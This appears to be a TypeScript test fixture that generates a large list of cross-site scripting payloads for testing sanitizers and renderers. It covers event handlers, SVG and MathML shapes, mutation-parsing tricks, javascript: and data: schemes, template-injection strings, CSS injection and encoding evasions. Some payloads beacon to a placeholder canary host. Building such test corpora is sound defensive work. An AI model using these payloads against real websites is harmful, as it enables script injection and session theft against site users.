/** Where a payload that has run would be seen: nobody answers there. */
export const CANARY_HOST = 'canary.invalid';

/** What a payload does when it runs; each is noticed in another way. */
const DEEDS = [
  'pwned(1)',
  'parent.pwned(1)',
  'alert(1)',
  `fetch('//${CANARY_HOST}/f')`,
  `new Image().src='//${CANARY_HOST}/i'`,
  `location='//${CANARY_HOST}/l'`,
  `document.title='pwned'`,
  `open('//${CANARY_HOST}/o')`,
];

/** Markup that runs something. `$` is what it runs, without double quotes. */
const MARKUP = [
  '<script>$</script>',
  '<ScRiPt>$</sCrIpT>',
  '<script/x>$</script/x>',
  '<script\n>$</script\n>',
  '<scr<script>ipt>$</scr</script>ipt>',
  `<script src="//${CANARY_HOST}/x.js"></script>`,
  '<script src="data:text/javascript,$"></script>',
  '<script type="module">$</script>',
  '<img src=x onerror="$">',
  '<img/src=x/onerror="$"//',
  '<IMG SRC=x ONERROR="$">',
  '<img src=x:x onerror\n=\n"$">',
  '<img src="x` `<script>$</script>"` `>',
  '<img srcset=x onerror="$">',
  '<image src=x onerror="$">',
  '<svg onload="$">',
  '<svg/onload="$"//',
  '<svg><script>$</script></svg>',
  '<svg><animate onbegin="$" attributeName=x dur=1s>',
  '<svg><set attributeName=href to="javascript:$"><a href=x><text y=9>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'/>#x"/></svg>',
  '<svg><foreignObject><iframe src="javascript:$"></iframe></foreignObject></svg>',
  '<math href="javascript:$"><mi>x</mi></math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:$">x</maction></math>',
  '<body onload="$">',
  '<body onpageshow="$">',
  '<details open ontoggle="$"><summary>x</summary></details>',
  '<video><source onerror="$"></video>',
  '<video src=x onerror="$"></video>',
  '<audio src=x onerror="$"></audio>',
  '<input autofocus onfocus="$">',
  '<select autofocus onfocus="$"></select>',
  '<textarea autofocus onfocus="$"></textarea>',
  '<button autofocus onfocus="$">x</button>',
  '<a href="#" autofocus onfocus="$">x</a>',
  '<p tabindex=0 autofocus onfocus="$">x</p>',
  '<marquee onstart="$">x</marquee>',
  '<object data="javascript:$"></object>',
  '<object data="data:text/html,<script>$</script>"></object>',
  '<embed src="javascript:$">',
  '<iframe src="javascript:$"></iframe>',
  '<iframe srcdoc="<script>$</script>"></iframe>',
  '<iframe src="data:text/html,<script>$</script>"></iframe>',
  '<iframe onload="$"></iframe>',
  '<frameset onload="$"><frame></frameset>',
  `<link rel=stylesheet href="//${CANARY_HOST}/x.css">`,
  `<link rel=prefetch href="//${CANARY_HOST}/p">`,
  '<link rel=stylesheet href=x onerror="$">',
  `<base href="//${CANARY_HOST}/">`,
  '<meta http-equiv=refresh content="0;url=javascript:$">',
  `<meta http-equiv=refresh content="0;url=//${CANARY_HOST}/m">`,
  '<form action="javascript:$"><button autofocus>x</button></form>',
  '<form><button formaction="javascript:$">x</button></form>',
  '<isindex action="javascript:$" type=submit>',
  '<style onload="$"></style>',
  `<style>@import '//${CANARY_HOST}/i.css';</style>`,
  '<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart="$">x</p>',
  '<p style="transition:1s" ontransitionend="$">x</p>',
  '<p onmouseover="$" style="position:fixed;inset:0">x</p>',
  '<p onpointerenter="$">x</p>',
  '<div popover id=x onbeforetoggle="$"></div><button popovertarget=x>x</button>',
  '<template shadowrootmode=open><img src=x onerror="$"></template>',
  '<x onclick="$" contenteditable>x</x>',
  '<dialog open onclose="$"></dialog>',
  '<slot onslotchange="$"></slot>',
  '<portal src="javascript:$"></portal>',
  '<noscript><p title="</noscript><img src=x onerror=$>"></noscript>',
  // Shapes that change their meaning when they are parsed a second time.
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=$&gt;">',
  '<svg></p><style><a id="</style><img src=x onerror=$>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="$">',
  '<listing>&lt;img src=x onerror=$&gt;</listing>',
  '<xmp><p title="</xmp><img src=x onerror=$>">',
  '<noembed><p title="</noembed><img src=x onerror=$>">',
  '<textarea><p title="</textarea><img src=x onerror=$>">',
  '<title><p title="</title><img src=x onerror=$>">',
  '<!--><img src=x onerror="$">-->',
  '<![CDATA[><img src=x onerror="$">]]>',
  '<?xml version="1.0"?><img src=x onerror="$">',
  '<!DOCTYPE x [<!ENTITY e "<img src=x onerror=$>">]>&e;',
];

/** What ends the place that a text was put into. */
const BREAKERS = [
  '',
  '">',
  "'>",
  '" autofocus x="',
  '`>',
  '-->',
  ']]>',
  '</textarea>',
  '</title></style></script>',
  "');//",
  '\\"}];</script>',
];

/** Handlers for a text that stands within an attribute. */
const ATTRIBUTES = ['"', "'", '`', ''].flatMap((quote) =>
  ['onmouseover', 'onfocus autofocus tabindex=0 x', 'onerror', 'onload', 'style'].map(
    (name) => `x${quote} ${name}=${quote}$${quote} y=${quote}`,
  ),
);

const SCHEMES = [
  'javascript:$',
  'JaVaScRiPt:$',
  'java\tscript:$',
  'java\nscript:$',
  '\u0001javascript:$',
  ' javascript:$',
  '\u00a0javascript:$',
  'javascript://example.com/%0a$',
  'javascript:/*--></title></style></textarea></script>*/$',
  'java&#115;cript:$',
  'javascript&colon;$',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:$',
  'vbscript:msgbox(1)',
  'vbs:$',
  'livescript:$',
  'view-source:javascript:$',
  'feed:javascript:$',
  'blob:javascript:$',
  'data:text/html,<script>$</script>',
  'data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="$"/>',
  'data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icHduZWQoMSkiLz4=',
  'data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">$</script>',
  'https://example.com/"onmouseover="$',
  "https://example.com/'onmouseover='$",
  'https://example.com/<script>$</script>',
  'https://javascript:$@example.com/',
  'www.example.com"><img src=x onerror="$">',
  'http://[::1]"onerror="$',
  'http://\u202egnp.exe/javascript:$',
  '[x](javascript:$)',
  '![x](javascript:$)',
  '<javascript:$>',
  '[x]: javascript:$',
];

const TEMPLATES = [
  '{{constructor.constructor("$")()}}',
  '{{$on.constructor("$")()}}',
  '${$}',
  '#{$}',
  '<%= $ %>',
  '{%$%}',
  '[[$]]',
  '{$}',
  '@($)',
  '*{$}',
  '__${$}__::.x',
  '<p ng-app ng-csp>{{constructor.constructor("$")()}}</p>',
  '<p v-html="constructor.constructor(`$`)()">x</p>',
  '<x-app :is="$"></x-app>',
  '<p x-data x-init="$">x</p>',
  '<p hx-on:load="$">x</p>',
];

const STYLES = [
  `x;background:url(//${CANARY_HOST}/c)`,
  `url(//${CANARY_HOST}/u)`,
  'expression($)',
  'behavior:url(x.htc)',
  '-moz-binding:url(x.xml#x)',
  `</style><style>*{background:url(//${CANARY_HOST}/s)}`,
  `@import"//${CANARY_HOST}/a"`,
  '#123456;}</style><script>$</script>',
];

const CHARACTERS = [
  '\uff1cscript\uff1e$\uff1c/script\uff1e',
  '\u02bascript\u02ba',
  '\u2028$\u2029',
  '\ufeff<script>$</script>',
  '<\u200bscript>$</\u200bscript>',
  '\u202e<img src=x onerror="$">',
  '\u2066<img src=x onerror="$">\u2069',
  '<img src=x onerror=\u000b"$">',
  '%3Cscript%3E$%3C/script%3E',
  '%253Cscript%253E$%253C/script%253E',
  '&lt;script&gt;$&lt;/script&gt;',
  '&amp;lt;script&amp;gt;$&amp;lt;/script&amp;gt;',
  '\\u003cscript\\u003e$\\u003c/script\\u003e',
  '\\x3cscript\\x3e$\\x3c/script\\x3e',
  '+ADw-script+AD4-$+ADw-/script+AD4-',
  '<a\u0300 href=x>',
  '𝕵avascript:$',
  '\u0130<script>$</script>',
  '<ſcript>$</ſcript>',
];

/** Texts that try to run when they are shown: every shape, behind every breaker, with changing deeds. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...BREAKERS.flatMap((breaker) => MARKUP.map((shape) => breaker + shape)),
  ...[...ATTRIBUTES, ...SCHEMES, ...TEMPLATES, ...STYLES, ...CHARACTERS].flatMap((shape) => [
    shape,
    `${shape} and more words`,
  ]),
].map((shape, index) => shape.replaceAll('$', () => DEEDS[index % DEEDS.length] ?? ''));

/** The markup by itself, as a careless page would write it into its own. */
export const LIVE_MARKUP: readonly string[] = MARKUP.map((shape) =>
  shape.replaceAll('$', () => 'pwned(1)'),
);

/** The same as data: what a reader that builds elements of objects would take for one. */
export const HOSTILE_DATA: readonly unknown[] = MARKUP.slice(0, 40).flatMap((shape, index) => {
  const text = shape.replaceAll('$', () => DEEDS[index % DEEDS.length] ?? '');
  return [
    { __html: text },
    { dangerouslySetInnerHTML: { __html: text } },
    { type: 'img', props: { src: 'x', onError: text, dangerouslySetInnerHTML: { __html: text } } },
    { [text]: text },
    [text, { toString: text, constructor: text }],
  ];
});
